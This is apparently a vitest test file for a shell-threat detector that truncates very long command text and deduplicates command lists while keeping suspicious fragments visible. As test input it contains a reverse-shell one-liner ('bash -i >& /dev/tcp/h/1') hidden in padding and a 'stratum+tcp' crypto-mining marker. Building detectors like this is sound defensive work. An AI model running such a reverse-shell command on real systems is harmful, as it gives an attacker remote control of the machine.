// What is read of too much: the ends, and between them what is tell-tale.
import { expect, test } from 'vitest';
import { ends, readable, selection } from '../../../../../detectors/process/threats/shell/bounds.ts';

test('a text of ordinary length is read whole', () => {
  expect(readable('ls -l')).toEqual({ text: 'ls -l', omitted: 0 });
});

test('padding on both sides does not hide a tell-tale word', () => {
  const { text, omitted } = readable(`${'a '.repeat(500_000)};bash -i >& /dev/tcp/h/1;${' a'.repeat(500_000)}`);
  expect(text).toContain('bash -i >& /dev/tcp/h/1');
  expect(text.length).toBeLessThan(70_000);
  expect(omitted).toBeGreaterThan(1_900_000);
});

test('the ends of a long list are its first and last entries', () => {
  expect(ends([1, 2, 3], 4)).toEqual([1, 2, 3]);
  expect(ends([1, 2, 3, 4, 5, 6, 7, 8], 4)).toEqual([1, 2, 3, 8]);
});

const item = (joined: string) => ({ program: 'p', joined, redirects: [] });

test('repeated commands count once, and of too many different ones the tell-tale stay', () => {
  expect(selection(Array.from({ length: 5_000 }, () => item('x')))).toHaveLength(1);
  const many = Array.from({ length: 5_000 }, (_, at) => item(at === 2_500 ? 'stratum+tcp' : `x${at}`));
  const kept = selection(many);
  expect(kept.length).toBeLessThan(400);
  expect(kept.map(({ joined }) => joined)).toEqual(expect.arrayContaining(['x0', 'stratum+tcp', 'x4999']));
});
